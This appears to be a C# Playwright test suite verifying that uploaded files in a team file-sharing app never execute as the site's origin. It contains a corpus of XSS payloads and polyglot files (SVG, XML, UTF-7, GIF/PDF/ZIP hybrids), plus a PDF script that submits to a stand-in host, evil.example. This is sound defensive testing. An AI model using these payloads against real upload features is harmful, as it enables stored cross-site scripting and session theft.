using System.Text;
using System.Text.Json;
using Microsoft.Playwright;
using Shouldly;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Appliance.Browser;

/// <summary>What people upload never runs as our origin, whatever it is called and however it is opened.</summary>
[Collection("browser")]
[Trait("Requirement", "F3")]
public sealed class UserContentTests(Chromium chromium)
{
    /// <summary>What a hostile file wants to do: be seen, read the session, reach our origin, leave a mark.</summary>
    private const string Evil =
        "try{localStorage.setItem('pwned','1')}catch(e){};try{document.cookie='pwned=1'}catch(e){};try{top.document.title='pwned'}catch(e){};"
        + "try{window.top.pwned=1}catch(e){};try{fetch('/teams?pwned')}catch(e){};try{alert('pwned')}catch(e){}";

    private static readonly byte[] Gif =
        Convert.FromBase64String("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");

    public static readonly IReadOnlyDictionary<string, byte[]> Hostile = new Dictionary<string, byte[]>(StringComparer.Ordinal)
    {
        ["page.html"] = Text($"<!DOCTYPE html><script>{Evil}</script><img src=x onerror=\"{Evil}\">"),
        ["page.png"] = Text($"<!DOCTYPE html><script>{Evil}</script>"),
        ["page.txt"] = Text($"<html><script>{Evil}</script>"),
        ["no-ending"] = Text($"<script>{Evil}</script>"),
        ["picture.svg"] = Text($"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{Evil}\"><script>{Evil}</script><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:{Evil}\"/></foreignObject></svg>"),
        ["picture.jpg"] = Text($"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>{Evil}</script></svg>"),
        ["data.xml"] = Text($"<?xml version=\"1.0\"?><?xml-stylesheet href=\"#\" type=\"text/xsl\"?><x xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:script>{Evil}</h:script></x>"),
        ["code.js"] = Text(Evil),
        ["code.css"] = Text("@import '/teams?pwned'; body { background: url('/teams?pwned') }"),
        ["gif-and-js.gif"] = [.. "GIF89a/*"u8, .. new byte[20], .. Text("*/=1;" + Evil)],
        ["gif-and-html.html"] = [.. Gif, .. Text($"<script>{Evil}</script>")],
        ["pdf-and-html.html"] = [.. SamplePdf.With(["x"]), .. Text($"<html><script>{Evil}</script>")],
        ["html-and-pdf.pdf"] = [.. Text($"<html><script>{Evil}</script>"), .. SamplePdf.With(["x"])],
        ["script.pdf"] = SamplePdf.With(["x"], "app.alert\\(1\\); this.submitForm\\('https://evil.example'\\)"),
        ["utf16.html"] = [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"<script>{Evil}</script>")],
        ["utf7.txt"] = Text("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ["archive.zip.html"] = [.. "PK\x03\x04"u8, .. Text($"<script>{Evil}</script>")],
        ["page.mhtml"] = Text($"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>{Evil}</script>\r\n--x--"),
        ["manifest.webmanifest"] = Text("{\"start_url\":\"/teams?pwned\"}"),
    };

    [Fact]
    public async Task Hostile_files_run_nowhere_however_they_are_opened()
    {
        await using var person = await SignedInAsync("content.hostile");
        // What the policies stop is what this is about.
        person.Expected.AddRange(["Content Security Policy", "TrustedScriptURL", "Refused to", "415", "404", "violates", "MIME type", "net::ERR", "sandbox", "Failed to load", "X-Frame-Options", "frame-ancestors"]);
        var page = person.Page;
        var dialogs = new List<string>();
        var calls = new List<string>();
        person.Context.Page += (_, opened) => Watch(opened);
        Watch(page);
        void Watch(IPage watched)
        {
            watched.Dialog += async (_, dialog) =>
            {
                dialogs.Add(dialog.Message);
                await dialog.DismissAsync();
            };
            watched.Request += (_, request) => calls.Add(request.Url);
        }

        var home = page.Url;
        var team = home.Split('/')[4];
        foreach (var (name, bytes) in Hostile)
        {
            var entry = await UploadAsync(page, team, name, bytes);
            foreach (var address in new[] { $"/teams/{team}/files/{entry}/preview", $"/teams/{team}/files/{entry}/content", $"/api/v1/teams/{team}/entries/{entry}/content" })
            {
                var tab = await person.Context.NewPageAsync();
                try
                {
                    await tab.GotoAsync(address);
                    await tab.WaitForTimeoutAsync(50);
                    (await tab.TitleAsync()).ShouldNotBe("pwned", $"{name} at {address}");
                    if (await IsShownAsync(page, address))
                    {
                        (await tab.EvaluateAsync<string>("() => self.origin")).ShouldBe("null", $"{name} at {tab.Url}");
                    }
                }
                catch (PlaywrightException download) when (download.Message.Contains("Download is starting", StringComparison.Ordinal) || download.Message.Contains("ERR_", StringComparison.Ordinal))
                {
                    // saved, not shown
                }
                finally
                {
                    await tab.CloseAsync();
                }
                await page.EvaluateAsync(
                    """
                    (address) => new Promise((done) => {
                      for (const [tag, attribute] of [['img', 'src'], ['iframe', 'src'], ['video', 'src'], ['link', 'href']]) {
                        const made = document.createElement(tag);
                        if (tag === 'link') made.rel = 'stylesheet';
                        made[attribute] = address;
                        document.body.append(made);
                      }
                      const embedded = document.createElement('object');
                      try { embedded.data = address; document.body.append(embedded); } catch { /* Trusted Types */ }
                      const script = document.createElement('script');
                      try { script.src = address; document.body.append(script); } catch { /* Trusted Types */ }
                      setTimeout(done, 80);
                    })
                    """, address);
            }
            await page.GotoAsync(home);
            (await page.EvaluateAsync<string?>("() => localStorage.getItem('pwned')")).ShouldBeNull(name);
            (await page.EvaluateAsync<bool>("() => 'pwned' in window")).ShouldBeFalse(name);
            (await page.EvaluateAsync<string>("() => document.cookie")).ShouldNotContain("pwned", customMessage: name);
        }
        dialogs.ShouldBeEmpty();
        calls.ShouldNotContain(url => url.Contains("pwned", StringComparison.Ordinal) || url.Contains("evil", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_picture_a_text_and_a_PDF_are_shown_and_the_PDF_in_an_origin_of_its_own()
    {
        await using var person = await SignedInAsync("content.shown");
        var page = person.Page;
        var team = page.Url.Split('/')[4];
        var gif = await UploadAsync(page, team, "dot.gif", Gif);
        (await page.EvaluateAsync<int>(
            "(address) => new Promise((done) => { const i = new Image(); i.onload = () => done(i.naturalWidth); i.onerror = () => done(-1); i.src = address; })",
            $"/teams/{team}/files/{gif}/preview")).ShouldBe(1);
        var text = await UploadAsync(page, team, "note.md", Text("# Grüße"));
        (await page.EvaluateAsync<string>("async (address) => (await fetch(address)).text()", $"/teams/{team}/files/{text}/preview")).ShouldBe("# Grüße");

        var pdf = await UploadAsync(page, team, "talk.pdf", SamplePdf.With(["First page", "Second page"], "app.alert\\(1\\)"));
        await page.EvaluateAsync(
            """
            async (address) => {
              const { mount } = await import('/js/preview-pdf.js');
              window.states = [];
              const place = document.createElement('div');
              place.id = 'preview';
              place.style.cssText = 'position: fixed; inset: 0; display: grid; z-index: 99';
              document.body.append(place);
              mount(place, address, 1000, { name: 'talk.pdf', onState: (s) => window.states.push(s) });
              window.postMessage({ type: 'failed', reason: 'broken' }); // somebody else's word is not taken
            }
            """, $"/teams/{team}/files/{pdf}/preview");
        var frame = page.FrameLocator("#preview iframe");
        await Expect(frame.GetByText("Page 1 of 2")).ToBeVisibleAsync();
        await Expect(frame.Locator("[data-words]")).ToHaveTextAsync("First page");
        (await frame.Locator("canvas").EvaluateAsync<bool>(
            "(c) => { const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; for (let i = 0; i < d.length; i += 4) if (d[i] < 128) return true; return false; }")).ShouldBeTrue();
        await frame.GetByRole(AriaRole.Button, new() { Name = "Next" }).ClickAsync();
        await Expect(frame.GetByText("Page 2 of 2")).ToBeVisibleAsync();
        await Expect(frame.Locator("[data-words]")).ToHaveTextAsync("Second page");
        (await page.EvaluateAsync<JsonElement>("() => window.states")).EnumerateArray().Select(s => s.GetProperty("state").GetString()).ShouldBe(["loading", "shown", "shown"]);

        // What the frame is: nobody's origin, without our cookies, storage, network or the page around it.
        var inside = page.Frames.Single(f => f.Url.EndsWith("/pdf-viewer", StringComparison.Ordinal));
        (await inside.EvaluateAsync<string>("() => self.origin")).ShouldBe("null");
        person.Expected.AddRange(["Content Security Policy", "violates", "Failed to load", "Refused"]);
        foreach (var attempt in new[]
        {
            "() => document.cookie", "() => localStorage.length", "() => parent.document.title", "() => fetch('/teams').then(() => 1)",
            "() => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok(1); i.onerror = () => no(new Error('stopped')); i.src = '/icons.svg'; })",
        })
        {
            await Should.ThrowAsync<PlaywrightException>(() => inside.EvaluateAsync(attempt), attempt);
        }
        await person.ScreenshotAsync("preview-pdf");
    }

    [Fact]
    public async Task A_broken_or_truncated_PDF_says_so_and_one_that_is_too_large_is_not_even_asked_for()
    {
        await using var person = await SignedInAsync("content.broken");
        var page = person.Page;
        var team = page.Url.Split('/')[4];
        var whole = SamplePdf.With(["x"]);
        var broken = await UploadAsync(page, team, "broken.pdf", [.. "%PDF-1.7\n"u8, .. new byte[5000]]);
        var cut = await UploadAsync(page, team, "cut.pdf", whole[..20]);
        foreach (var (address, size, state) in new[] { ($"/teams/{team}/files/{broken}/preview", 5000L, "broken"), ($"/teams/{team}/files/{cut}/preview", 20, "broken"), ("/nothing", (64L << 20) + 1, "too-large") })
        {
            (await page.EvaluateAsync<string>(
                """
                async ([address, size]) => {
                  const { mount } = await import('/js/preview-pdf.js');
                  const place = document.createElement('div');
                  document.body.append(place);
                  const last = await new Promise((done) => mount(place, address, Number(size), { onState: (s) => s.state !== 'loading' && done(s.state) }));
                  return place.children.length === 0 ? last : 'left something';
                }
                """, new[] { address, size.ToString() })).ShouldBe(state, address);
        }
    }

    private async Task<Person> SignedInAsync(string username)
    {
        var person = await chromium.PersonAsync();
        await person.PlugInKeyAsync();
        await person.SetUpAsync(await chromium.SetUpLinkAsync(), username);
        await person.MakeTeamAsync("Content");
        return person;
    }

    /// <summary>Sends it from the page, as our own modules do; answers the file's reference.</summary>
    private async Task<string> UploadAsync(IPage page, string team, string name, byte[] bytes)
    {
        (await page.EvaluateAsync<int>(
            """
            async ([team, name, content]) => (await fetch(`/api/v1/teams/${team}/uploads`, {
              method: 'POST',
              headers: {
                'Tus-Resumable': '1.0.0', 'Upload-Length': String(atob(content).length), 'Upload-Metadata': `filename ${name}`,
                'Content-Type': 'application/offset+octet-stream', RequestVerificationToken: document.querySelector('meta[name="csrf"]').content,
              },
              body: Uint8Array.from(atob(content), (c) => c.charCodeAt(0)),
            })).status
            """, new[] { team, Convert.ToBase64String(Encoding.UTF8.GetBytes(name)), Convert.ToBase64String(bytes) })).ShouldBe(201, name);
        return (string)(await chromium.Appliance.Cluster.SuperuserAsync(
            chromium.Appliance.Settings.DatabaseName,
            $"select e.reference from entries e join teams t on t.id = e.team_id where t.reference = '{team}' and e.name = '{name}'"))!;
    }

    private static Task<bool> IsShownAsync(IPage page, string address) =>
        page.EvaluateAsync<bool>("async (address) => (await fetch(address)).ok", address);

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);
}
